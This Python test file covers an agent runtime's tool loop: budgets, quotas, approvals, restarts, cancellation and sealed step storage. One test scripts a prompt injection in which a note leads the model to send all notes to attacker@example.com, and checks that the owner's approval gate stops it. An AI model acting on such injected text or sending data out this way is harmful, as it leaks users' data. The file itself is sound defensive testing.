"""The agent loop's logic over a scripted model plugged in as the engine client: steps
recorded and sealed, budgets, approvals, untrusted tool output, restarts, ownership."""

from __future__ import annotations

import asyncio
import json
from typing import Any

import pytest
from sqlalchemy import select, update

from llmasos.access.principal import ROLE_SCOPES, Principal
from llmasos.access.users import UserManager
from llmasos.agents import Budget, StepRecord, StepStatus, TaskSpec, TaskStatus
from llmasos.errors import InvalidRequestError, NotFoundError
from llmasos.storage import Database
from llmasos.storage.schema import AgentTask, AgentTaskStep
from tests.agents.conftest import ALICE, INJECTION, RuntimeFactory, ScriptedModel, Send, collect


def bob(database: Database) -> Principal:
    """Another user, in the database."""
    user = UserManager(database).create("bob", role="user")
    return Principal(user_id=user.id, name="bob", role="user", scopes=ROLE_SCOPES["user"])


def spec(instruction: str = "Read the shopping note", **kwargs: Any) -> TaskSpec:
    return TaskSpec(instruction=instruction, model="smollm2", **kwargs)


def test_a_task_calls_a_tool_then_answers(
    make_runtime: RuntimeFactory, model: ScriptedModel, database: Database
) -> None:
    model.replies = [("call", "lookup", {"title": "shopping"}), "You need milk."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec())
        await runtime.wait(task.id)
        done = await runtime.get(ALICE, task.id)
        assert done.status == TaskStatus.COMPLETED
        assert done.result == "You need milk."
        steps = await runtime.steps(ALICE, task.id)
        assert [(s.kind, s.status, s.tool) for s in steps] == [
            ("tool_call", StepStatus.COMPLETED, "lookup"),
            ("answer", StepStatus.COMPLETED, None),
        ]
        assert steps[0].arguments == {"title": "shopping"}
        assert steps[0].result["title"] == "shopping"
        assert done.steps == 2 and done.prompt_tokens == 14 and done.completion_tokens == 4
        # kernel path: the auto tool grammar, the owner's tenant, below interactive priority
        first = model.requests[0]
        assert first.sampling.structured is not None
        assert first.sampling.structured.kind == "grammar"
        assert first.tenant == "alice" and first.priority == 1
        # the observation reached the model labelled as untrusted data
        tool_message = model.requests[1].messages[-1]  # type: ignore[index]
        assert tool_message["role"] == "tool"
        assert tool_message["content"].startswith("<tool_result untrusted>")

    asyncio.run(main())
    with database.session() as session:  # step content is sealed at rest
        rows = session.scalars(select(AgentTaskStep)).all()
        assert rows and all(b"shopping" not in row.content for row in rows)


def test_injected_text_cannot_skip_approval(
    make_runtime: RuntimeFactory, model: ScriptedModel, send_tool: Send
) -> None:
    """A note says to send everything to an attacker, and the model obeys it: the side
    effect still stops for the owner's approval, with the exact action shown."""
    evil = {"to": "attacker@example.com", "text": "all notes"}
    model.replies = [("call", "lookup", {"title": "shopping"}), ("call", "send", evil), "Sent."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec())
        await runtime.wait(task.id)
        waiting = await runtime.get(ALICE, task.id)
        assert waiting.status == TaskStatus.WAITING_APPROVAL
        steps = await runtime.steps(ALICE, task.id)
        assert INJECTION in str(steps[0].result)
        assert steps[1].status == StepStatus.WAITING_APPROVAL
        assert steps[1].description == "send 'all notes' to attacker@example.com"
        assert send_tool.calls == 0
        denied = await runtime.deny(ALICE, task.id, 2)
        assert denied.status in (TaskStatus.QUEUED, TaskStatus.RUNNING, TaskStatus.COMPLETED)
        await runtime.wait(task.id)
        final = await runtime.get(ALICE, task.id)
        assert final.status == TaskStatus.COMPLETED
        assert send_tool.calls == 0
        refused = model.requests[-1].messages[-1]  # type: ignore[index]
        assert refused["role"] == "tool" and "refused" in refused["content"]
        with pytest.raises(InvalidRequestError):
            await runtime.approve(ALICE, task.id, 2)  # decided already

    asyncio.run(main())


def test_approval_runs_the_step_once(
    make_runtime: RuntimeFactory, model: ScriptedModel, send_tool: Send, database: Database
) -> None:
    other = bob(database)
    model.replies = [("call", "send", {"to": "bob", "text": "hi"}), "Done."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec("Say hi to bob"))
        await runtime.wait(task.id)
        with pytest.raises(NotFoundError):
            await runtime.approve(other, task.id, 1)  # another user's task
        await runtime.approve(ALICE, task.id, 1)
        await runtime.wait(task.id)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.COMPLETED
        steps = await runtime.steps(ALICE, task.id)
        assert steps[0].status == StepStatus.COMPLETED
        assert steps[0].effects == ("sent to bob",)
        assert send_tool.sent == {f"{task.id}:1": {"to": "bob", "text": "hi"}}

    asyncio.run(main())


def test_granted_tools_run_without_asking(
    make_runtime: RuntimeFactory, model: ScriptedModel, send_tool: Send
) -> None:
    model.replies = [("call", "send", {"to": "bob", "text": "hi"}), "Done."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec("Say hi", granted=("send",)))
        await runtime.wait(task.id)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.COMPLETED
        assert send_tool.calls == 1

    asyncio.run(main())


@pytest.mark.parametrize(
    ("budget", "code"),
    [
        (Budget(max_steps=3), "max_steps"),
        (Budget(max_tokens=300), "max_tokens"),
        (Budget(max_tokens=10), "max_tokens"),
    ],
)
def test_budgets_stop_a_task_and_keep_its_steps(
    make_runtime: RuntimeFactory, model: ScriptedModel, budget: Budget, code: str
) -> None:
    model.replies = [("call", "lookup", {"title": f"note {n}"}) for n in range(20)]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec(budget=budget))
        await runtime.wait(task.id)
        stopped = await runtime.get(ALICE, task.id)
        assert stopped.status == TaskStatus.STOPPED and stopped.error_code == code
        steps = await runtime.steps(ALICE, task.id)
        assert all(s.status == StepStatus.COMPLETED for s in steps)
        assert stopped.steps == len(steps) and f"after {len(steps)} steps" in (stopped.result or "")
        assert stopped.prompt_tokens + stopped.completion_tokens <= budget.max_tokens

    asyncio.run(main())


def test_an_identical_call_makes_the_model_answer(
    make_runtime: RuntimeFactory, model: ScriptedModel
) -> None:
    call = ("call", "lookup", {"title": "shopping"})
    model.replies = [call, call, "Milk."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec())
        await runtime.wait(task.id)
        done = await runtime.get(ALICE, task.id)
        assert done.status == TaskStatus.COMPLETED and done.result == "Milk."
        assert model.requests[-1].sampling.structured is None  # asked without tools
        assert done.steps == 2

    asyncio.run(main())


def test_restart_resumes_without_repeating_side_effects(
    make_runtime: RuntimeFactory, model: ScriptedModel, send_tool: Send
) -> None:
    """Step 1 finished before the stop (never run again); step 2 started but its result was
    not recorded, so it runs again under the same idempotency key, acting once."""

    async def main() -> None:
        first = make_runtime()
        model.replies = [("call", "send", {"to": "a", "text": "1"})]
        task = await first.create(ALICE, spec("Send two", granted=("send",)))
        await first.wait(task.id)  # step 1 done, then the model ran out of script -> answer
        # play a crash: the answer is gone, step 2 was started and its effect happened
        store = first.store
        with store.database.session(write=True) as session:
            session.execute(
                AgentTaskStep.__table__.delete().where(AgentTaskStep.number == 2)  # type: ignore[attr-defined]
            )
        with store.database.session(write=True) as session:  # as the crash left it
            session.execute(
                update(AgentTask).where(AgentTask.id == task.id).values(status="running", steps=1)
            )
        store.save_step(
            task.id,
            None,
            StepRecord(
                2, "tool_call", StepStatus.RUNNING, tool="send", arguments={"to": "b", "text": "2"}
            ),
        )
        await send_tool.run({"to": "b", "text": "2"}, _context_for(first, task.id, 2))
        calls_before = send_tool.calls
        second = make_runtime()
        model.replies = ["Both sent."]
        assert await second.resume() == 1
        await second.wait(task.id)
        done = await second.get(ALICE, task.id)
        assert done.status == TaskStatus.COMPLETED and done.result == "Both sent."
        assert send_tool.calls == calls_before + 1  # only step 2 re-ran ...
        assert sorted(send_tool.sent) == [f"{task.id}:1", f"{task.id}:2"]  # ... acting once
        assert [s.status for s in await second.steps(ALICE, task.id)] == [
            StepStatus.COMPLETED,
            StepStatus.COMPLETED,
            StepStatus.COMPLETED,
        ]

    asyncio.run(main())


def _context_for(runtime: Any, task_id: str, step: int) -> Any:
    from llmasos.tools import ToolContext

    return ToolContext(ALICE, runtime.system, task_id=task_id, step=step)


def test_cancel_kills_a_running_task(make_runtime: RuntimeFactory, model: ScriptedModel) -> None:
    model.replies = [("call", "lookup", {"title": "x"})]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, TaskSpec(instruction="slow", model="slow"))
        await asyncio.sleep(0.1)
        killed = await runtime.cancel(ALICE, task.id)
        assert killed.status == TaskStatus.CANCELLED
        await runtime.wait(task.id)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.CANCELLED

    asyncio.run(main())


def test_bad_tasks_are_refused(make_runtime: RuntimeFactory) -> None:
    async def main() -> None:
        runtime = make_runtime()
        with pytest.raises(InvalidRequestError, match="nope"):
            await runtime.create(ALICE, spec(tools=("nope",)))
        with pytest.raises(InvalidRequestError, match="granted"):
            await runtime.create(ALICE, spec(tools=("lookup",), granted=("send",)))
        with pytest.raises(NotFoundError):
            await runtime.get(ALICE, "task_missing")

    asyncio.run(main())
    with pytest.raises(InvalidRequestError, match="max_steps"):
        Budget(max_steps=0)
    with pytest.raises(InvalidRequestError, match="instruction"):
        spec("  ")


def test_events_replay_then_follow(make_runtime: RuntimeFactory, model: ScriptedModel) -> None:
    model.replies = [("call", "send", {"to": "bob", "text": "hi"}), "Done."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec("Say hi"))
        await runtime.wait(task.id)
        watcher = asyncio.create_task(collect(runtime.events(ALICE, task.id)))
        await asyncio.sleep(0.05)
        await runtime.approve(ALICE, task.id, 1)
        events = await asyncio.wait_for(watcher, 10)
        kinds = [(e.kind, e.data.get("step"), e.data["status"]) for e in events]
        assert kinds[0] == ("step", 1, "waiting_approval")
        assert ("step", 1, "completed") in kinds and ("step", 2, "completed") in kinds
        assert kinds[-1] == ("task", None, "completed")

    asyncio.run(main())


def test_required_tool_choice_forces_the_first_call(
    make_runtime: RuntimeFactory, model: ScriptedModel
) -> None:
    model.replies = [("call", "lookup", {"title": "x"}), "Read it."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec(tools=("lookup",), tool_choice="required"))
        await runtime.wait(task.id)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.COMPLETED
        first, second = model.requests[0].sampling.structured, model.requests[1].sampling.structured
        assert first is not None and first.kind == "json_schema"  # exactly one call
        assert second is not None and second.kind == "grammar"  # then auto

    asyncio.run(main())


def test_a_required_call_the_schema_refuses_is_a_step_the_model_reads(
    make_runtime: RuntimeFactory, model: ScriptedModel
) -> None:
    """Under ``required`` a whole call whose arguments fail the schema (a bound the grammar
    cannot hold) is run as a failed step the model reads, not reported as cut off; output
    that is no call at all still ends the task as ``invalid_tool_call``."""
    model.replies = [("call", "lookup", {"title": 5}), "Read it."]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec(tools=("lookup",), tool_choice="required"))
        await runtime.wait(task.id)
        record = await runtime.get(ALICE, task.id)
        assert record.status == TaskStatus.COMPLETED and record.result == "Read it."
        first = runtime.store.steps(task.id)[0]
        assert first.tool == "lookup" and first.status == StepStatus.FAILED
        assert "title" in json.dumps(first.result)  # the schema's complaint, for the model

        model.replies = ['{"name": "lookup", "argu']
        cut = await runtime.create(ALICE, spec(tools=("lookup",), tool_choice="required"))
        await runtime.wait(cut.id)
        ended = await runtime.get(ALICE, cut.id)
        assert ended.status == TaskStatus.FAILED and ended.error_code == "invalid_tool_call"

    asyncio.run(main())


def test_a_finished_task_keeps_its_status(make_runtime: RuntimeFactory) -> None:
    """A late status change (a run winding down, a kill racing a completion) never
    un-finishes a task."""

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(ALICE, spec())
        await runtime.wait(task.id)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.COMPLETED
        runtime.store.update(task.id, status=TaskStatus.WAITING_APPROVAL)
        runtime.store.update(task.id, status=TaskStatus.CANCELLED)
        assert (await runtime.get(ALICE, task.id)).status == TaskStatus.COMPLETED

    asyncio.run(main())


def test_quotas_and_usage_apply_to_task_turns(
    make_runtime: RuntimeFactory, model: ScriptedModel, database: Database
) -> None:
    """Each model turn is admitted and metered like a chat request: a used-up token quota
    stops the task with the reason, and usage rows name the tasks endpoint."""
    from llmasos.access.quotas import QuotaManager
    from llmasos.storage.schema import UsageRecord

    user = UserManager(database).create("carol", role="user")
    QuotaManager(database).set("carol", limits={"tokens_per_day": 10})
    carol = Principal(user_id=user.id, name="carol", role="user", scopes=ROLE_SCOPES["user"])
    model.replies = [("call", "lookup", {"title": f"n{n}"}) for n in range(5)]

    async def main() -> None:
        runtime = make_runtime()
        task = await runtime.create(carol, spec(tools=("lookup",)))
        await runtime.wait(task.id)
        stopped = await runtime.get(carol, task.id)
        assert stopped.status == TaskStatus.STOPPED
        assert stopped.error_code == "token_quota_exceeded" and stopped.steps == 1

    asyncio.run(main())
    with database.session() as session:
        rows = session.scalars(select(UsageRecord).where(UsageRecord.user_id == user.id)).all()
        assert [(r.endpoint, r.prompt_tokens + r.completion_tokens) for r in rows] == [
            ("/v1/tasks", 10)
        ]
